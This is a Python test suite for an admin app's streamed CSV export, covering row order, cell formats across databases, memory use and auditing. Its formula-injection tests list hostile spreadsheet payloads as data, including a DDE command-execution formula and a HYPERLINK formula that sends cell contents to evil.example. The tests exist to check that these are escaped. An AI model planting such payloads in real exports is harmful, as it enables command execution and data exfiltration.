"""The CSV export is exactly the filtered, sorted list, streamed in constant memory."""

import csv
import io
import random
import sys
import time
import tracemalloc
import unicodedata
from datetime import UTC, date, datetime, timedelta, timezone
from datetime import time as time_of_day
from decimal import Decimal
from typing import Any
from uuid import UUID

import httpx2 as httpx
import pytest
from sqlalchemy import insert, text
from sqlmodel import Session, select
from starlette.testclient import TestClient

from admin_app import create_app
from admin_app.listing.cells import BLANKS, FORMULA_CHARS, safe_text
from admin_app.listing.export import converter
from admin_app.writing.audit import AuditEntry
from models import Project, Task, TaskStatus, Worker
from tests.cell_models import Mood, Size, Specimen
from tests.conftest import SECRET_KEY, add_staff, login, migrated
from tests.live import live_server
from tests.test_filters import listed, tracker  # noqa: F401  (a fixture)


def export(
    client, identity: str, query: str = ""
) -> tuple[list[str], list[list[str]], str]:
    response = client.get(f"/admin/{identity}/export/csv?{query}")
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.text)))
    return rows[0], rows[1:], response.text


@pytest.mark.parametrize(
    "query",
    [
        "",
        "status=in_progress&sortBy=progress&sort=desc",
        "priority=urgent&due_date__isnull=false&sortBy=due_date",
        "search=csv&sortBy=title",
        "overdue=yes",
        "tags=1&assignee_id__isnull=true",
    ],
)
def test_the_export_is_the_list_row_for_row_in_order(client, tracker, query):  # noqa: F811
    header, rows, _ = export(client, "task", query)
    assert [row[header.index("id")] for row in rows] == listed(client, "task", query)
    assert rows, "the filter should match rows"


def test_cells_follow_the_csv_contract(client, db):
    project = Project(name="Apollo")
    db.add(project)
    db.commit()
    db.add_all(
        [
            Task(
                title="=SUM(A1:A9)",
                project_id=project.id,
                progress=40,
                description='He said "hi",\nthen left',
            ),
            Task(title="-5 apples", status=TaskStatus.done, progress=100),
            Task(title="@handle", description="+1 555"),
            Task(title="\tTabbed"),
            Task(title="plain"),
        ]
    )
    db.commit()
    header, rows, raw = export(client, "task", "sortBy=id")
    assert header == [  # every column, each foreign key with its label beside it
        "id",
        "title",
        "description",
        "status",
        "priority",
        "progress",
        "due_date",
        "project_id",
        "project",
        "assignee_id",
        "assignee",
        "parent_id",
        "parent",
        "created_at",
    ]
    by_title = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_title) == {
        "'=SUM(A1:A9)",
        "'-5 apples",
        "'@handle",
        "'\tTabbed",
        "plain",
    }
    first = by_title["'=SUM(A1:A9)"]
    assert first["project"] == "Apollo"  # the label, not an id or a repr
    assert first["project_id"] == str(project.id)  # beside its key
    assert first["description"] == 'He said "hi",\nthen left'  # long text too
    assert first["assignee"] == "" and first["due_date"] == ""  # None is empty
    assert first["progress"] == "40" and ",40," in raw  # numbers stay numbers, unquoted
    assert by_title["'-5 apples"]["status"] == "done"
    assert "Task(" not in raw and "None" not in raw


def test_dates_flags_and_labels_read_the_same_on_every_backend(client, db, backend):
    """The database writes most cells itself; the text must not depend on which."""
    project = Project(name="+Launch", archived=True, created_at=datetime(2026, 3, 4))
    db.add(project)
    db.add(Worker(name="Ada", email="ada@example.com", active=False))
    db.commit()
    db.add_all(
        [
            Task(
                title="whole seconds",
                project_id=project.id,
                due_date=date(2026, 5, 6),
                created_at=datetime(2026, 1, 2, 3, 4, 5),
            ),
            Task(title="", created_at=datetime(999, 12, 31, 23, 59, 59, 120000)),
        ]
    )
    db.commit()
    header, rows, _raw = export(client, "task", "sortBy=id")
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert [
        (c["title"], c["due_date"], c["project"], c["created_at"]) for c in cells
    ] == [
        ("whole seconds", "2026-05-06", "'+Launch", "2026-01-02T03:04:05"),
        ("", "", "", "0999-12-31T23:59:59.120000"),
    ]
    header, rows, _raw = export(client, "project")
    project_cells = dict(zip(header, rows[0], strict=True))
    assert project_cells["archived"] == "true"
    assert project_cells["created_at"] == "2026-03-04T00:00:00"
    header, rows, _raw = export(client, "worker")
    assert dict(zip(header, rows[0], strict=True))["active"] == "false"
    if backend == "sqlite":  # datetimes some other program wrote as text
        with db.get_bind().begin() as connection:
            connection.execute(
                text(
                    "UPDATE task SET created_at = '2026-01-02T03:04:05.500', "
                    "due_date = '2026-05-06 00:00:00' WHERE title = ''"
                )
            )
        header, rows, _raw = export(client, "task", "sortBy=id")
        last = dict(zip(header, rows[-1], strict=True))
        assert (last["created_at"], last["due_date"]) == (
            "2026-01-02T03:04:05.500000",
            "2026-05-06",
        )


def test_a_selection_is_exported_by_key_and_the_download_is_named(client, db):
    db.add_all([Task(title=f"T{n}") for n in range(5)])
    db.commit()
    ids = [t.id for t in db.exec(select(Task).order_by(Task.id)).all()]
    response = client.get(f"/admin/task/export/csv?pks={ids[1]},{ids[3]}")
    rows = list(csv.reader(io.StringIO(response.text)))[1:]
    assert sorted(int(r[0]) for r in rows) == [ids[1], ids[3]]
    disposition = response.headers["content-disposition"]
    assert disposition.startswith(
        'attachment; filename="task-'
    ) and disposition.endswith('.csv"')


def test_an_export_is_audited(client, db):
    db.add(Task(title="T"))
    db.commit()
    export(client, "task", "status=todo")
    (entry,) = db.exec(select(AuditEntry)).all()
    assert (entry.action, entry.table, entry.summary) == (
        "export",
        "task",
        "Exported 1 Task",
    )


def test_numbers_and_labels_in_another_models_module(librarian, library):
    from tests.other_models import Author, Book

    with Session(library.state.engine, expire_on_commit=False) as session:
        author = Author(first_name="Ursula", last_name="Le Guin")
        session.add(
            Book(title="Earthsea", isbn="1", price=Decimal("12.50"), author=author)
        )
        session.commit()
    header, rows, _raw = export(librarian, "book")
    # The view names its list columns, not its export columns: every column.
    assert header == [
        "id",
        "title",
        "isbn",
        "price",
        "published_at",
        "author_id",
        "author",
    ]
    (row,) = rows
    assert row[1:4] == ["Earthsea", "1", "12.50"] and row[4] == ""
    assert row[5:] == [str(author.id), "Le Guin, Ursula"]  # a custom label, per batch


def fill_tasks(engine, count: int) -> None:
    rows = [
        {
            "title": f"Task {n}",
            "status": "todo",
            "priority": "normal",
            "progress": n % 101,
            "created_at": datetime(2026, 1, 1),
            "project_id": None,
        }
        for n in range(count)
    ]
    with engine.begin() as connection:
        connection.execute(insert(Task.__table__), rows)


def peak_memory_of_export(base: str, cookies) -> int:
    tracemalloc.start()
    tracemalloc.reset_peak()
    received = 0
    with (
        httpx.Client(base_url=base, cookies=cookies, timeout=120) as browser,
        browser.stream("GET", "/admin/task/export/csv") as response,
    ):
        for chunk in response.iter_bytes():
            received += len(chunk)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert received > 0
    return peak


def test_memory_stays_flat_from_20k_to_200k_rows(app, superuser):
    with live_server(app) as base:
        with httpx.Client(base_url=base) as browser:
            login(browser, "admin")
            cookies = browser.cookies
        fill_tasks(app.state.engine, 20_000)
        small = peak_memory_of_export(base, cookies)
        fill_tasks(app.state.engine, 180_000)
        large = peak_memory_of_export(base, cookies)
    # Ten times the rows may not take much more memory: the export is streamed.
    assert large < small * 1.5 + 2_000_000, (small, large)


def test_a_client_that_leaves_mid_download_releases_the_connection(app, superuser):
    fill_tasks(app.state.engine, 50_000)
    pool = app.state.engine.pool
    with live_server(app) as base, httpx.Client(base_url=base) as browser:
        login(browser, "admin")
        with browser.stream("GET", "/admin/task/export/csv") as response:
            next(response.iter_bytes())  # the first chunk, then hang up
        deadline = time.monotonic() + 10
        while pool.checkedout() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert pool.checkedout() == 0


# Every column type, on both databases: the cells of `listing.cells`.

CELLS = "tests.cell_models"
PLUS_TWO = timezone(timedelta(hours=2))


@pytest.fixture
def specimens(empty_database_url):
    """An admin serving a table with a column of every type the export writes."""
    app = create_app(migrated(empty_database_url, (CELLS,)), CELLS, SECRET_KEY)
    yield app
    app.state.engine.dispose()


@pytest.fixture
def curator(specimens):
    add_staff(specimens, "curator", superuser=True)
    with TestClient(specimens) as client:
        assert login(client, "curator").status_code == 302
        yield client


def add_specimens(app, *specimens) -> list[str]:
    """Store the rows; their keys as the export writes them."""
    with Session(app.state.engine) as session:
        session.add_all(specimens)
        session.commit()
        return [str(specimen.id) for specimen in specimens]


def exported_by_key(client, query: str = "") -> dict[str, dict[str, str]]:
    header, rows, _raw = export(client, "specimen", query)
    return {
        row[header.index("id")]: dict(zip(header, row, strict=True)) for row in rows
    }


def set_session_time_zone(app, zone: str) -> None:
    """Make every new PostgreSQL session of the app use `zone`."""
    engine = app.state.engine
    with engine.connect() as connection:
        name = connection.exec_driver_sql("SELECT current_database()").scalar()
        connection.exec_driver_sql(f'ALTER DATABASE "{name}" SET timezone = {zone!r}')
        connection.commit()
    engine.dispose()
    with engine.connect() as connection:
        assert connection.exec_driver_sql("SHOW timezone").scalar() == zone


def plain_specimen(**changes: Any) -> Specimen:
    """A specimen with a value in every column, as the cell tests of every
    export format write it (`changes` replace some)."""
    values: dict[str, Any] = {
        "label": "plain",
        "count": -5,
        "ratio": 0.5,
        "price": Decimal("0.0000001"),
        "flag": True,
        "naive_at": datetime(2026, 12, 1, 20, 37, 50),
        "aware_at": datetime(2026, 12, 1, 20, 37, 50, 298217, tzinfo=UTC),
        "sqlmodel_at": datetime(2026, 12, 1, 22, 37, 50, tzinfo=PLUS_TWO),
        "day": date(2026, 12, 1),
        "clock": time_of_day(20, 37, 50),
        "size": Size.large,
        "mood": Mood.loud,
        "data": {"name": "é", "list": [1, 2.5, None, True]},
        "blob": b"\x00\xff",
    }
    return Specimen(**{**values, **changes})


def test_every_column_type_has_one_format_on_every_database(
    specimens, curator, backend
):
    if backend == "postgresql":  # UTC is written whatever the session's zone
        set_session_time_zone(specimens, "Asia/Kolkata")
    full, other, empty = add_specimens(
        specimens,
        plain_specimen(),
        Specimen(
            label="-5",
            count=0,
            ratio=-1e20,
            price=Decimal("1E+2"),
            flag=False,
            naive_at=datetime(999, 1, 2, 3, 4, 5, 6),
            aware_at=datetime(2026, 1, 1, tzinfo=UTC),
            sqlmodel_at=datetime(2026, 1, 1, 0, 0, 0, 500000, tzinfo=UTC),
            day=date(999, 1, 2),
            clock=time_of_day(0, 0, 0, 1),
            size=Size.small,
            mood=Mood.calm,
            data=[],
            blob=b"",
        ),
        Specimen(label=""),
    )
    cells = exported_by_key(curator)
    assert cells[full] == {
        "id": full,  # canonical, hyphenated (SQLite holds 32 hex digits)
        "label": "plain",
        "count": "-5",  # a number: never escaped
        "ratio": "0.5",
        "price": "0.00000010",  # the column's scale, no exponent
        "flag": "true",
        "naive_at": "2026-12-01T20:37:50",
        "aware_at": "2026-12-01T20:37:50.298217+00:00",
        "sqlmodel_at": "2026-12-01T20:37:50+00:00",  # stored in UTC
        "day": "2026-12-01",
        "clock": "20:37:50",
        "size": "2",  # an IntEnum by its value
        "mood": "'=loud",  # an enum's text value is text like any other
        "data": '{"name":"é","list":[1,2.5,null,true]}',
        "blob": "\\x00ff",
    }
    assert cells[other] == {
        "id": other,
        "label": "'-5",  # text that looks like a negative number is text
        "count": "0",
        "ratio": "-1e+20",
        "price": "100.00000000",
        "flag": "false",
        "naive_at": "0999-01-02T03:04:05.000006",
        "aware_at": "2026-01-01T00:00:00+00:00",
        "sqlmodel_at": "2026-01-01T00:00:00.500000+00:00",
        "day": "0999-01-02",
        "clock": "00:00:00.000001",
        "size": "1",
        "mood": "calm",
        "data": "[]",
        "blob": "\\x",
    }
    assert cells[empty] == {"id": empty} | {
        name: "" for name in cells[empty] if name != "id"
    }
    assert all(str(UUID(key)) == key for key in cells), "keys are canonical UUIDs"


def test_the_database_and_python_write_the_same_cells(specimens, curator):
    """Most cells are made in SQL; `converter` (used where SQL cannot) must
    give the same text for every column, so which path runs never shows."""
    add_specimens(
        specimens,
        Specimen(
            label="\u00a0=1+1",
            count=7,
            ratio=1 / 3,
            price=Decimal("-12.5"),
            flag=True,
            naive_at=datetime(2026, 12, 1, 20, 37, 50, 120000),
            aware_at=datetime(2026, 12, 1, 20, 37, 50, tzinfo=UTC),
            sqlmodel_at=datetime(2026, 12, 1, 20, 37, 50, 1, tzinfo=PLUS_TWO),
            day=date(2026, 2, 28),
            clock=time_of_day(23, 59, 59, 999999),
            size=Size.small,
            mood=Mood.loud,
            data={"b": {"c": "\u00a0=x"}},
            blob=bytes(range(256)),
        ),
        Specimen(label="ok"),
    )
    cells = exported_by_key(curator)
    table = Specimen.__table__
    with Session(specimens.state.engine) as session:
        for specimen in session.exec(select(Specimen)):
            python = {
                column.key: str(converter(column)(getattr(specimen, column.key)))
                for column in table.columns
            }
            exported = cells[str(specimen.id)]
            assert {k: python[k] for k in exported} == exported


@pytest.mark.parametrize("backend", ["sqlite"])  # only SQLite stores them as text
def test_datetimes_other_programs_wrote_in_sqlite_read_the_same(specimens, curator):
    """SQLite lets any program store any text: datetimes with a `T`, an offset
    or no seconds are parsed as Python would; text that is no value at all is
    written as it is, escaped."""
    key, junk = add_specimens(specimens, Specimen(label="a"), Specimen(label="b"))
    with specimens.state.engine.begin() as connection:
        connection.execute(
            text(
                "UPDATE cells_specimen SET naive_at = '2026-12-01T22:37:50+02:00', "
                "aware_at = '2026-12-01 22:37:50.5+02:00', "
                "sqlmodel_at = '2026-12-01T20:37:50Z', day = '2026-12-01 00:00:00', "
                "clock = '20:37', id = :hyphenated WHERE id = :hex"
            ),
            {"hyphenated": key.upper(), "hex": UUID(key).hex},
        )
        connection.execute(
            text(
                "UPDATE cells_specimen SET naive_at = '=1+1', aware_at = ' @x', "
                "day = '@today', clock = '-1', id = 'not a key' WHERE id = :hex"
            ),
            {"hex": UUID(junk).hex},
        )
    cells = exported_by_key(curator)
    assert {name: cells[key][name] for name in TIMES} == {
        "naive_at": "2026-12-01T20:37:50",  # converted to naive UTC
        "aware_at": "2026-12-01T20:37:50.500000+00:00",
        "sqlmodel_at": "2026-12-01T20:37:50+00:00",
        "day": "2026-12-01",
        "clock": "20:37:00",
    }
    assert {name: cells["not a key"][name] for name in TIMES} == {
        "naive_at": "'=1+1",
        "aware_at": "' @x",
        "sqlmodel_at": "",
        "day": "'@today",
        "clock": "'-1",
    }


TIMES = ("naive_at", "aware_at", "sqlmodel_at", "day", "clock")


# Formulas disguised as text (the security review's finding): each is escaped.
DISGUISED = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    " =1+1",
    "   +1",
    "\u00a0=1+1",  # no-break space
    "\n=1+1",
    "\r\n=1+1",
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u2028@x",  # line separator
    " \t\u00a0\n\u2060=1",
    "\uff1d1+1",  # fullwidth =
    "\uff0b1",  # fullwidth +
    "\uff0d1",  # fullwidth -
    "\uff20x",  # fullwidth @
    "\uff5cx",  # fullwidth |
    "\ufe661",  # small =
    "\u22121",  # minus sign
    " \uff1d1",
]
# Text that is exactly a spreadsheet's error value, which Excel reads as the
# error itself (and an import refuses): escaped as well.
ERROR_TEXT = ["#N/A", "#DIV/0!", "#NAME?", "#REF!", "#SPILL!"]
PLAIN_TEXT = [
    "#hashtag",
    "#",
    "#n/a",
    " #N/A",
    "#N/A!",
    "Apollo",
    "5 apples",
    "",
    " plain",
    "\u00a0plain",
    "\nline",
    "\u00e9lan",
    "\u4e2d\u6587",
    "'quoted",
    '"quoted"',
    "{json}",
    "~tilde",
    "a=b",
    "z|",
    "}",
    "1+1",
    "\u2028",
    "\U0001f600=",
]


def formula_cases(backend: str) -> list[str]:
    """Text starting with every kind of character, after every kind of blank,
    and random mixes of them: what SQL and Python must decide alike."""
    blanks = ["", " ", "\u00a0", "\n", "\t", "\r", "\u200b", "\u3000 ", "\ufeff"]
    blanks += ["\u2060", "\U000e0020", "\x7f", "\x1f"]
    firsts = [*FORMULA_CHARS, "A", "z", "{", "|", "}", "~", "0", "'", '"', ""]
    firsts += ["\u00e9", "\u4e2d", "\u00a0", "\U0001f600", "\u0600"]
    cases = [blank + first + "x" for blank in blanks for first in firsts]
    alphabet = [*FORMULA_CHARS, *BLANKS[:40], "\u3000", "\ufeff", "a", "Z", "5"]
    rng = random.Random(15)
    cases += ["".join(rng.choices(alphabet, k=rng.randint(1, 4))) for _ in range(300)]
    if backend == "sqlite":  # PostgreSQL's text cannot hold NUL
        cases += ["\0=1", " \0=1", "\0", "a\0"]
    return [*DISGUISED, *ERROR_TEXT, *PLAIN_TEXT, *cases]


def test_disguised_formulas_are_escaped_and_sql_agrees_with_python(
    specimens, curator, backend
):
    labels = formula_cases(backend)
    keys = add_specimens(specimens, *[Specimen(label=label) for label in labels])
    cells = exported_by_key(curator)
    pairs = zip(keys, labels, strict=True)
    exported = {label: cells[key]["label"] for key, label in pairs}
    escaped = [*DISGUISED, *ERROR_TEXT]
    assert {label: exported[label] for label in escaped} == {
        label: "'" + label for label in escaped
    }
    assert {label: exported[label] for label in PLAIN_TEXT} == {
        label: label for label in PLAIN_TEXT
    }
    assert exported == {label: safe_text(label) for label in labels}


def test_every_invisible_character_counts_as_blank_before_a_formula():
    """Controls, spaces, separators and format characters, as Unicode
    classifies them: a formula after any of them is escaped."""
    invisible = [
        chr(c)
        for c in range(1, sys.maxunicode + 1)
        if chr(c).isspace() or unicodedata.category(chr(c)) in BLANK_CATEGORIES
    ]
    assert set(invisible) <= set(BLANKS)
    assert [c for c in invisible if safe_text(c + "=1") != "'" + c + "=1"] == []


BLANK_CATEGORIES = ("Cc", "Cf", "Zs", "Zl", "Zp")
